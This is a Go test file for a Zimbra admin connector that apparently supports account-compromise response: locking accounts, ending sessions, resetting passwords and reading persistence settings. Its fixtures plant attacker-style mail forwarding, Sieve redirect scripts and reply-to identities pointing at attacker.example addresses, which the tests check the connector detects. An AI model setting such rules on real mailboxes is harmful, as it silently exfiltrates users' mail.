@@ -1,0 +1,703 @@
+package zimbra_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/pem"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/mailbrake/mailbrake/internal/connector/zimbra"
+	"github.com/mailbrake/mailbrake/internal/connector/zimbra/zimbratest"
+)
+
+const user = "alice@example.edu"
+
+// clock is a settable clock shared by client and server.
+type clock struct {
+	mu sync.Mutex
+	t  time.Time
+}
+
+func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
+func (c *clock) Add(d time.Duration) {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.t = c.t.Add(d)
+}
+
+type env struct {
+	srv   *zimbratest.Server
+	c     *zimbra.Client
+	clock *clock
+	logs  *syncBuffer
+}
+
+type syncBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (s *syncBuffer) Write(p []byte) (int, error) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return s.b.Write(p)
+}
+func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }
+
+func newEnv(t *testing.T, opts zimbratest.Options, edit ...func(*zimbra.Config)) *env {
+	t.Helper()
+	clk := &clock{t: time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)}
+	if opts.Now == nil {
+		opts.Now = clk.Now
+	}
+	srv := zimbratest.Start(t, opts)
+	logs := &syncBuffer{}
+	cfg := zimbra.Config{
+		URL:               srv.URL(),
+		AdminUser:         srv.AdminUser(),
+		AdminPasswordFile: srv.AdminPasswordFile(t),
+		CAFile:            srv.CAFile(),
+		Timeout:           10 * time.Second,
+		Logger:            slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
+		Now:               clk.Now,
+	}
+	for _, e := range edit {
+		e(&cfg)
+	}
+	c, err := zimbra.New(cfg)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(c.Close)
+	return &env{srv: srv, c: c, clock: clk, logs: logs}
+}
+
+func wantCalls(t *testing.T, srv *zimbratest.Server, want ...string) {
+	t.Helper()
+	got := srv.CallStrings()
+	if !slices.Equal(got, want) {
+		t.Fatalf("calls:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
+	}
+}
+
+const authCall = "AuthRequest account=admin@example.test password=(set)"
+
+func TestGetAccount(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	id := e.srv.AddAccount(user, map[string][]string{
+		"zimbraAuthTokenValidityValue":    {"7"},
+		"zimbraPasswordModifiedTime":      {"20260101120000Z"},
+		"zimbraPrefMailForwardingAddress": {"evil@attacker.example, Bob@example.org"},
+		"zimbraMailForwardingAddress":     {"bob@example.org", "archive@example.edu"},
+		"zimbraMailSieveScript":           {"require [\"fileinto\"];\nredirect \"evil@attacker.example\";\n"},
+		"displayName":                     {"Alice"},
+	})
+	a, err := e.c.GetAccount(context.Background(), user)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if a.ID != id || a.Name != user {
+		t.Fatalf("account %q %q, want %q %q", a.Name, a.ID, user, id)
+	}
+	if a.Status() != "active" || a.AuthTokenValidityValue() != 7 {
+		t.Fatalf("status %q validity %d", a.Status(), a.AuthTokenValidityValue())
+	}
+	pm, err := a.PasswordModifiedTime()
+	if err != nil || !pm.Equal(time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)) {
+		t.Fatalf("PasswordModifiedTime = %v, %v", pm, err)
+	}
+	fwd := a.ForwardingAddresses()
+	if want := []string{"evil@attacker.example", "Bob@example.org", "archive@example.edu"}; !slices.Equal(fwd, want) {
+		t.Fatalf("ForwardingAddresses = %q, want %q", fwd, want)
+	}
+	if !strings.Contains(a.SieveScript(), "redirect") {
+		t.Fatalf("SieveScript = %q", a.SieveScript())
+	}
+	if got := a.Values("zimbraMailForwardingAddress"); len(got) != 2 {
+		t.Fatalf("multi-valued attr: %q", got)
+	}
+	if a.Values("displayName") != nil {
+		t.Fatal("displayName returned although not asked for")
+	}
+	wantCalls(t, e.srv, authCall, "GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","))
+
+	// An explicit attribute list is what the server filters by.
+	a, err = e.c.GetAccount(context.Background(), user, "displayName")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(a.Attrs) != 1 || a.Values("DISPLAYNAME")[0] != "Alice" {
+		t.Fatalf("attrs filter: %v", a.Attrs)
+	}
+}
+
+func TestNoSuchAccount(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	ctx := context.Background()
+	for name, op := range map[string]func() error{
+		"GetAccount":  func() error { _, err := e.c.GetAccount(ctx, "nobody@example.edu"); return err },
+		"Lock":        func() error { return e.c.Lock(ctx, "nobody@example.edu") },
+		"EndSessions": func() error { return e.c.EndSessions(ctx, "nobody@example.edu") },
+		"SetPassword": func() error { _, err := e.c.SetPassword(ctx, "nobody@example.edu", []byte("x")); return err },
+		"Persistence": func() error { _, err := e.c.Persistence(ctx, "nobody@example.edu"); return err },
+	} {
+		err := op()
+		if !errors.Is(err, zimbra.ErrNoSuchAccount) {
+			t.Errorf("%s: %v, want ErrNoSuchAccount", name, err)
+		}
+		var f *zimbra.Fault
+		if !errors.As(err, &f) || f.Code != zimbra.CodeNoSuchAccount || !strings.Contains(f.Reason, "nobody@example.edu") || f.Trace == "" {
+			t.Errorf("%s: fault %+v", name, f)
+		}
+		if errors.Is(err, zimbra.ErrAuthFailed) {
+			t.Errorf("%s: matches ErrAuthFailed", name)
+		}
+	}
+}
+
+func TestLockUnlock(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	id := e.srv.AddAccount(user, nil)
+	ctx := context.Background()
+	if err := e.c.Lock(ctx, user); err != nil {
+		t.Fatal(err)
+	}
+	if got := e.srv.Attr(user, "zimbraAccountStatus"); !slices.Equal(got, []string{"locked"}) {
+		t.Fatalf("status after Lock: %q", got)
+	}
+	if err := e.c.Unlock(ctx, user); err != nil {
+		t.Fatal(err)
+	}
+	if got := e.srv.Attr(user, "zimbraAccountStatus"); !slices.Equal(got, []string{"active"}) {
+		t.Fatalf("status after Unlock: %q", got)
+	}
+	wantCalls(t, e.srv, authCall,
+		"GetAccountRequest account="+user+" attrs=zimbraId",
+		"ModifyAccountRequest account="+id+" zimbraAccountStatus=locked",
+		"GetAccountRequest account="+user+" attrs=zimbraId",
+		"ModifyAccountRequest account="+id+" zimbraAccountStatus=active",
+	)
+}
+
+func TestSetMustChangePassword(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	e.srv.AddAccount(user, nil)
+	ctx := context.Background()
+	for _, must := range []bool{true, false} {
+		if err := e.c.SetMustChangePassword(ctx, user, must); err != nil {
+			t.Fatal(err)
+		}
+		a, err := e.c.GetAccount(ctx, user)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if a.MustChangePassword() != must {
+			t.Fatalf("must=%v: server has %q", must, e.srv.Attr(user, "zimbraPasswordMustChange"))
+		}
+	}
+}
+
+func TestSetPassword(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	id := e.srv.AddAccount(user, map[string][]string{"zimbraAuthTokenValidityValue": {"2"}})
+	ctx := context.Background()
+	pw := []byte("N3w-scrambled-Passw0rd")
+	warning, err := e.c.SetPassword(ctx, user, pw)
+	if err != nil || warning != "" {
+		t.Fatalf("SetPassword: %q, %v", warning, err)
+	}
+	if !e.srv.CheckPassword(user, string(pw)) {
+		t.Fatal("password not set")
+	}
+	a, err := e.c.GetAccount(ctx, user)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if a.AuthTokenValidityValue() != 3 {
+		t.Fatalf("validity value %d, want 3 (SetPassword raises it)", a.AuthTokenValidityValue())
+	}
+	if pm, _ := a.PasswordModifiedTime(); !pm.Equal(e.clock.Now()) {
+		t.Fatalf("PasswordModifiedTime %v, want %v", pm, e.clock.Now())
+	}
+
+	// A policy message is a warning: the password is still set.
+	e.srv.SetPasswordMessage("password does not meet the policy: too short")
+	warning, err = e.c.SetPassword(ctx, user, []byte("Tiny1"))
+	if err != nil || !strings.Contains(warning, "too short") {
+		t.Fatalf("SetPassword with policy message: %q, %v", warning, err)
+	}
+	if !e.srv.CheckPassword(user, "Tiny1") {
+		t.Fatal("password with a policy warning not set")
+	}
+	if _, err := e.c.SetPassword(ctx, user, nil); err == nil {
+		t.Fatal("empty password accepted")
+	}
+	wantCalls(t, e.srv, authCall,
+		"GetAccountRequest account="+user+" attrs=zimbraId",
+		"SetPasswordRequest account="+id+" password=(set)",
+		"GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","),
+		"GetAccountRequest account="+user+" attrs=zimbraId",
+		"SetPasswordRequest account="+id+" password=(set)",
+	)
+}
+
+func TestEndSessions(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	id := e.srv.AddAccount(user, map[string][]string{"zimbraAuthTokenValidityValue": {"4"}})
+	unset := e.srv.AddAccount("bob@example.edu", nil)
+	ctx := context.Background()
+	if err := e.c.EndSessions(ctx, user); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.c.EndSessions(ctx, "bob@example.edu"); err != nil {
+		t.Fatal(err)
+	}
+	if got := e.srv.Attr(user, "zimbraAuthTokenValidityValue"); !slices.Equal(got, []string{"5"}) {
+		t.Fatalf("validity value %q, want 5", got)
+	}
+	wantCalls(t, e.srv, authCall,
+		"GetAccountRequest account="+user+" attrs=zimbraId,zimbraAuthTokenValidityValue",
+		"ModifyAccountRequest account="+id+" zimbraAuthTokenValidityValue=5",
+		"FlushCacheRequest account="+user+" type=account allServers=1 entry=name:"+user,
+		"GetAccountRequest account=bob@example.edu attrs=zimbraId,zimbraAuthTokenValidityValue",
+		"ModifyAccountRequest account="+unset+" zimbraAuthTokenValidityValue=1",
+		"FlushCacheRequest account=bob@example.edu type=account allServers=1 entry=name:bob@example.edu",
+	)
+}
+
+func TestPersistence(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	script := "require [\"copy\"];\nredirect :copy \"evil@attacker.example\";\n"
+	id := e.srv.AddAccount(user, map[string][]string{
+		"zimbraPrefMailForwardingAddress":     {"evil@attacker.example"},
+		"zimbraPrefMailLocalDeliveryDisabled": {"TRUE"},
+		"zimbraMailSieveScript":               {script},
+		"zimbraPrefReplyToEnabled":            {"TRUE"},
+		"zimbraPrefReplyToAddress":            {"alice.help@attacker.example"},
+		"zimbraPrefFromAddress":               {user},
+		"zimbraPasswordModifiedTime":          {"20251224080000Z"},
+	})
+	idID, _ := e.srv.AddIdentity(user, "Support", map[string][]string{
+		"zimbraPrefFromAddress":         {user},
+		"zimbraPrefReplyToEnabled":      {"TRUE"},
+		"zimbraPrefReplyToAddress":      {"payroll@attacker.example"},
+		"zimbraPrefWhenSentToAddresses": {"a@example.edu", "b@example.edu"},
+	})
+	ctx := context.Background()
+	p, err := e.c.Persistence(ctx, user)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256([]byte(script))
+	switch {
+	case p.Account != user || p.ID != id || p.Status != "active":
+		t.Fatalf("account %+v", p)
+	case !slices.Equal(p.ForwardingAddresses, []string{"evil@attacker.example"}) || len(p.AdminForwardingAddresses) != 0:
+		t.Fatalf("forwarding %q %q", p.ForwardingAddresses, p.AdminForwardingAddresses)
+	case !p.LocalDeliveryDisabled:
+		t.Fatal("LocalDeliveryDisabled not reported")
+	case p.SieveScript != zimbra.Script{Present: true, Size: len(script), SHA256: hex.EncodeToString(sum[:])}:
+		t.Fatalf("sieve %+v", p.SieveScript)
+	case p.OutgoingSieveScript.Present:
+		t.Fatalf("outgoing sieve %+v", p.OutgoingSieveScript)
+	case !p.PasswordModified.Equal(time.Date(2025, 12, 24, 8, 0, 0, 0, time.UTC)):
+		t.Fatalf("PasswordModified %v", p.PasswordModified)
+	case p.IdentitiesError != "":
+		t.Fatalf("IdentitiesError %q", p.IdentitiesError)
+	}
+	want := []zimbra.Identity{
+		{Name: "DEFAULT", ID: id, FromAddress: user, ReplyToEnabled: true, ReplyToAddress: "alice.help@attacker.example"},
+		{Name: "Support", ID: idID, FromAddress: user, ReplyToEnabled: true, ReplyToAddress: "payroll@attacker.example"},
+	}
+	if !slices.Equal(p.Identities, want) {
+		t.Fatalf("identities\n %+v\nwant\n %+v", p.Identities, want)
+	}
+	wantCalls(t, e.srv, authCall,
+		"GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","),
+		"GetIdentitiesRequest target="+id,
+	)
+
+	// Identities are best effort: a delegated admin may not read them.
+	e.srv.FailNext("GetIdentitiesRequest", zimbra.CodePermDenied, "permission denied: need right getAccountInfo")
+	p, err = e.c.Persistence(ctx, user)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(p.IdentitiesError, zimbra.CodePermDenied) || len(p.Identities) != 1 || p.Identities[0] != want[0] {
+		t.Fatalf("after a failed GetIdentities: %q %+v", p.IdentitiesError, p.Identities)
+	}
+	if !slices.Equal(p.ForwardingAddresses, []string{"evil@attacker.example"}) {
+		t.Fatal("forwarding lost when identities failed")
+	}
+	if strings.Contains(e.logs.String(), "redirect") {
+		t.Fatal("sieve script content in the log")
+	}
+}
+
+func TestTokenExpiredReauthenticates(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	e.srv.AddAccount(user, nil)
+	ctx := context.Background()
+	get := "GetAccountRequest account=" + user + " attrs=zimbraId"
+	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
+		t.Fatal(err)
+	}
+	e.srv.ExpireTokens()
+	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
+		t.Fatal(err)
+	}
+	wantCalls(t, e.srv, authCall, get, get+" fault=service.AUTH_EXPIRED", authCall, get)
+
+	// AUTH_REQUIRED (a token the server no longer knows) is retried too.
+	e.srv.ResetCalls()
+	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthRequired, "no valid authtoken present")
+	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
+		t.Fatal(err)
+	}
+	wantCalls(t, e.srv, get+" fault=service.AUTH_REQUIRED", authCall, get)
+
+	// Only once: a second expiry is the caller's error.
+	e.srv.ResetCalls()
+	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthExpired, "auth credentials have expired")
+	e.srv.FailNext("GetAccountRequest", zimbra.CodeAuthExpired, "auth credentials have expired")
+	_, err := e.c.GetAccount(ctx, user, "zimbraId")
+	if !errors.Is(err, zimbra.ErrAuthExpired) {
+		t.Fatalf("second expiry: %v", err)
+	}
+	wantCalls(t, e.srv, get+" fault=service.AUTH_EXPIRED", authCall, get+" fault=service.AUTH_EXPIRED")
+}
+
+func TestTokenLifetimeRenewal(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{TokenLifetime: time.Hour})
+	e.srv.AddAccount(user, nil)
+	ctx := context.Background()
+	get := "GetAccountRequest account=" + user + " attrs=zimbraId"
+	for range 2 {
+		if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
+			t.Fatal(err)
+		}
+	}
+	e.clock.Add(59*time.Minute + 30*time.Second) // inside the renewal margin
+	if _, err := e.c.GetAccount(ctx, user, "zimbraId"); err != nil {
+		t.Fatal(err)
+	}
+	wantCalls(t, e.srv, authCall, get, get, authCall, get)
+}
+
+func TestWrongAdminPassword(t *testing.T) {
+	const wrong = "not-the-admin-password"
+	e := newEnv(t, zimbratest.Options{}, func(c *zimbra.Config) {
+		c.AdminPasswordFile = filepath.Join(t.TempDir(), "pw")
+		if err := os.WriteFile(c.AdminPasswordFile, []byte(wrong+"\r\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	})
+	e.srv.AddAccount(user, nil)
+	_, err := e.c.GetAccount(context.Background(), user)
+	var f *zimbra.Fault
+	if !errors.As(err, &f) || f.Code != zimbra.CodeAuthFailed || !errors.Is(err, zimbra.ErrAuthFailed) {
+		t.Fatalf("wrong admin password: %v", err)
+	}
+	if strings.Contains(err.Error(), wrong) || strings.Contains(e.logs.String(), wrong) {
+		t.Fatal("admin password in error or log")
+	}
+	wantCalls(t, e.srv, authCall+" fault=account.AUTH_FAILED")
+}
+
+func TestTLS(t *testing.T) {
+	srv := zimbratest.Start(t, zimbratest.Options{})
+	srv.AddAccount(user, nil)
+	pwFile := srv.AdminPasswordFile(t)
+	for _, tc := range []struct {
+		name     string
+		caFile   string
+		insecure bool
+		ok       bool
+	}{
+		{"CAFile", srv.CAFile(), false, true},
+		{"system roots", "", false, false},
+		{"InsecureSkipVerify", "", true, true},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			c, err := zimbra.New(zimbra.Config{URL: srv.URL(), AdminUser: srv.AdminUser(), AdminPasswordFile: pwFile,
+				CAFile: tc.caFile, InsecureSkipVerify: tc.insecure})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer c.Close()
+			_, err = c.GetAccount(context.Background(), user)
+			if (err == nil) != tc.ok {
+				t.Fatalf("err = %v, want ok=%v", err, tc.ok)
+			}
+			if !tc.ok && !strings.Contains(err.Error(), "certificate") {
+				t.Fatalf("not a certificate error: %v", err)
+			}
+		})
+	}
+}
+
+func TestHTTPErrors(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	bad, err := zimbra.New(zimbra.Config{URL: e.srv.BaseURL() + "/service/wrong", AdminUser: e.srv.AdminUser(),
+		AdminPasswordFile: e.srv.AdminPasswordFile(t), CAFile: e.srv.CAFile()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer bad.Close()
+	_, err = bad.GetAccount(context.Background(), user)
+	var f *zimbra.Fault
+	if err == nil || errors.As(err, &f) || !strings.Contains(err.Error(), "HTTP 404") {
+		t.Fatalf("404: %v", err)
+	}
+
+	// Oversized and non-JSON answers.
+	for _, tc := range []struct {
+		name, body, want string
+		status           int
+	}{
+		{"too large", `{"Body":{"AuthResponse":{"authToken":"` + strings.Repeat("x", zimbra.MaxResponseBytes) + `"}}}`, "larger than", 200},
+		{"html 502", "<html>bad gateway</html>", "HTTP 502", 502},
+		{"not json 200", "<soap:Envelope/>", "malformed", 200},
+		{"no lifetime", `{"Body":{"AuthResponse":{"authToken":[{"_content":"t"}]}}}`, "lifetime", 200},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			ts := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.WriteHeader(tc.status)
+				_, _ = io.WriteString(w, tc.body)
+			}))
+			defer ts.Close()
+			c, err := zimbra.New(zimbra.Config{URL: ts.URL + "/service/admin/soap", AdminUser: "admin@x",
+				AdminPasswordFile: e.srv.AdminPasswordFile(t), CAFile: writeCA(t, ts)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer c.Close()
+			_, err = c.GetAccount(context.Background(), user)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want %q", err, tc.want)
+			}
+		})
+	}
+}
+
+func writeCA(t *testing.T, ts *httptest.Server) string {
+	t.Helper()
+	p := filepath.Join(t.TempDir(), "ca.pem")
+	if err := os.WriteFile(p, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: ts.Certificate().Raw}), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// TestRequestShapes checks the bytes on the wire against REFERENCE.md §3.
+func TestRequestShapes(t *testing.T) {
+	var mu sync.Mutex
+	var bodies []string
+	ts := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		bodies = append(bodies, string(b))
+		mu.Unlock()
+		var resp string
+		switch {
+		case strings.Contains(string(b), `"AuthRequest"`):
+			resp = `{"AuthResponse":{"authToken":[{"_content":"TOKEN"}],"lifetime":43200000,"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"GetAccountRequest"`):
+			resp = `{"GetAccountResponse":{"account":[{"name":"u@dom","id":"ZID","a":[{"n":"zimbraId","_content":"ZID"},{"n":"zimbraAuthTokenValidityValue","_content":"2"}]}],"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"ModifyAccountRequest"`):
+			resp = `{"ModifyAccountResponse":{"account":[{"name":"u@dom","id":"ZID","a":[]}],"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"SetPasswordRequest"`):
+			resp = `{"SetPasswordResponse":{"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"FlushCacheRequest"`):
+			resp = `{"FlushCacheResponse":{"_jsns":"urn:zimbraAdmin"}}`
+		case strings.Contains(string(b), `"GetIdentitiesRequest"`):
+			resp = `{"GetIdentitiesResponse":{"identity":[],"_jsns":"urn:zimbraAccount"}}`
+		}
+		fmt.Fprintf(w, `{"Header":{"context":{"_jsns":"urn:zimbra"}},"Body":%s,"_jsns":"urn:zimbraSoap"}`, resp)
+	}))
+	defer ts.Close()
+	pw := filepath.Join(t.TempDir(), "pw")
+	if err := os.WriteFile(pw, []byte("s3cr<e>t&\"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	c, err := zimbra.New(zimbra.Config{URL: ts.URL + "/service/admin/soap", AdminUser: "admin@dom", AdminPasswordFile: pw, CAFile: writeCA(t, ts)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	ctx := context.Background()
+	if err := c.EndSessions(ctx, "u@dom"); err != nil {
+		t.Fatal(err)
+	}
+	if err := c.Lock(ctx, "u@dom"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.SetPassword(ctx, "u@dom", []byte("RANDOM")); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := c.Persistence(ctx, "u@dom"); err != nil {
+		t.Fatal(err)
+	}
+	hdr := `{"Header":{"context":{"_jsns":"urn:zimbra","authToken":{"_content":"TOKEN"}}},"Body":`
+	getID := hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"zimbraId","account":{"by":"name","_content":"u@dom"}}}}`
+	want := []string{
+		`{"Body":{"AuthRequest":{"_jsns":"urn:zimbraAdmin","name":"admin@dom","password":"s3cr<e>t&\""}}}`,
+		hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"zimbraId,zimbraAuthTokenValidityValue","account":{"by":"name","_content":"u@dom"}}}}`,
+		hdr + `{"ModifyAccountRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","a":[{"n":"zimbraAuthTokenValidityValue","_content":"3"}]}}}`,
+		hdr + `{"FlushCacheRequest":{"_jsns":"urn:zimbraAdmin","cache":{"type":"account","allServers":"1","entry":[{"by":"name","_content":"u@dom"}]}}}}`,
+		getID,
+		hdr + `{"ModifyAccountRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","a":[{"n":"zimbraAccountStatus","_content":"locked"}]}}}`,
+		getID,
+		hdr + `{"SetPasswordRequest":{"_jsns":"urn:zimbraAdmin","id":"ZID","newPassword":"RANDOM"}}}`,
+		hdr + `{"GetAccountRequest":{"_jsns":"urn:zimbraAdmin","attrs":"` + strings.Join(zimbra.DefaultAttrs, ",") + `","account":{"by":"name","_content":"u@dom"}}}}`,
+		`{"Header":{"context":{"_jsns":"urn:zimbra","authToken":{"_content":"TOKEN"},"account":{"by":"id","_content":"ZID"}}},"Body":{"GetIdentitiesRequest":{"_jsns":"urn:zimbraAccount"}}}`,
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(bodies) != len(want) {
+		t.Fatalf("%d requests, want %d:\n%s", len(bodies), len(want), strings.Join(bodies, "\n"))
+	}
+	for i := range want {
+		if bodies[i] != want[i] {
+			t.Errorf("request %d:\n got %s\nwant %s", i, bodies[i], want[i])
+		}
+	}
+}
+
+// TestPasswordsNeverLeak runs every operation, including failing ones,
+// and looks for the passwords in the call log, errors and logs.
+func TestPasswordsNeverLeak(t *testing.T) {
+	const adminPw = "Adm1n-P@ss-phrase"
+	e := newEnv(t, zimbratest.Options{AdminPassword: adminPw})
+	e.srv.AddAccount(user, nil)
+	ctx := context.Background()
+	newPw := "Scrambled-9f8e7d6c5b4a"
+	var errs []error
+	_, err := e.c.SetPassword(ctx, user, []byte(newPw))
+	errs = append(errs, err)
+	// A server that quotes the password back in its fault reason.
+	e.srv.FailNext("SetPasswordRequest", zimbra.CodeInvalidPassword, "invalid password: "+newPw+" is in the history")
+	_, err = e.c.SetPassword(ctx, user, []byte(newPw))
+	if !errors.Is(err, &zimbra.Fault{Code: zimbra.CodeInvalidPassword}) || !strings.Contains(err.Error(), "[redacted]") {
+		t.Fatalf("quoted password not redacted: %v", err)
+	}
+	errs = append(errs, err)
+	e.srv.FailNext("AuthRequest", zimbra.CodeAuthFailed, "authentication failed for [admin@example.test] with "+adminPw)
+	e.srv.ExpireTokens()
+	_, err = e.c.SetPassword(ctx, user, []byte(newPw))
+	errs = append(errs, err)
+	errs = append(errs, e.c.EndSessions(ctx, user), e.c.Lock(ctx, user))
+	_, err = e.c.SetPassword(ctx, "nobody@example.edu", []byte(newPw))
+	errs = append(errs, err)
+
+	if !e.srv.CheckPassword(user, newPw) {
+		t.Fatal("password not set")
+	}
+	var seen []string
+	for _, c := range e.srv.Calls() {
+		seen = append(seen, fmt.Sprintf("%#v", c))
+	}
+	for _, err := range errs {
+		if err != nil {
+			seen = append(seen, err.Error(), fmt.Sprintf("%+v", err))
+		}
+	}
+	seen = append(seen, e.logs.String())
+	for _, s := range seen {
+		if strings.Contains(s, newPw) || strings.Contains(s, adminPw) {
+			t.Fatalf("password leaked: %s", s)
+		}
+	}
+	if !slices.ContainsFunc(e.srv.Calls(), func(c zimbratest.Call) bool { return c.Request == "SetPasswordRequest" && c.Password }) {
+		t.Fatal("SetPasswordRequest not recorded as carrying a password")
+	}
+}
+
+func TestConcurrentCallsShareOneAuth(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	e.srv.AddAccount(user, nil)
+	var wg sync.WaitGroup
+	errc := make(chan error, 16)
+	for range 16 {
+		wg.Go(func() {
+			_, err := e.c.GetAccount(context.Background(), user, "zimbraId")
+			errc <- err
+		})
+	}
+	wg.Wait()
+	close(errc)
+	for err := range errc {
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	n := 0
+	for _, c := range e.srv.Calls() {
+		if c.Request == "AuthRequest" {
+			n++
+		}
+	}
+	if n != 1 {
+		t.Fatalf("%d AuthRequests, want 1", n)
+	}
+}
+
+func TestNewRejects(t *testing.T) {
+	dir := t.TempDir()
+	pw := filepath.Join(dir, "pw")
+	empty := filepath.Join(dir, "empty")
+	notPEM := filepath.Join(dir, "ca")
+	for p, content := range map[string]string{pw: "secret\n", empty: "\n", notPEM: "not a certificate"} {
+		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	ok := zimbra.Config{URL: "https://mail.example.edu:7071/service/admin/soap", AdminUser: "admin@example.edu", AdminPasswordFile: pw}
+	if _, err := zimbra.New(ok); err != nil {
+		t.Fatal(err)
+	}
+	for name, edit := range map[string]func(*zimbra.Config){
+		"no url":     func(c *zimbra.Config) { c.URL = "" },
+		"http url":   func(c *zimbra.Config) { c.URL = "http://mail.example.edu:7071/service/admin/soap" },
+		"no host":    func(c *zimbra.Config) { c.URL = "https:///service/admin/soap" },
+		"no user":    func(c *zimbra.Config) { c.AdminUser = "" },
+		"no pw file": func(c *zimbra.Config) { c.AdminPasswordFile = "" },
+		"missing pw": func(c *zimbra.Config) { c.AdminPasswordFile = filepath.Join(dir, "nope") },
+		"empty pw":   func(c *zimbra.Config) { c.AdminPasswordFile = empty },
+		"ca not PEM": func(c *zimbra.Config) { c.CAFile = notPEM },
+		"ca missing": func(c *zimbra.Config) { c.CAFile = filepath.Join(dir, "nope.pem") },
+	} {
+		cfg := ok
+		edit(&cfg)
+		_, err := zimbra.New(cfg)
+		if err == nil {
+			t.Errorf("%s: accepted", name)
+		} else if strings.Contains(err.Error(), "secret") {
+			t.Errorf("%s: password in error %v", name, err)
+		}
+	}
+}
+
+func TestContextCancelled(t *testing.T) {
+	e := newEnv(t, zimbratest.Options{})
+	e.srv.AddAccount(user, nil)
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	if _, err := e.c.GetAccount(ctx, user); !errors.Is(err, context.Canceled) {
+		t.Fatalf("cancelled context: %v", err)
+	}
+}
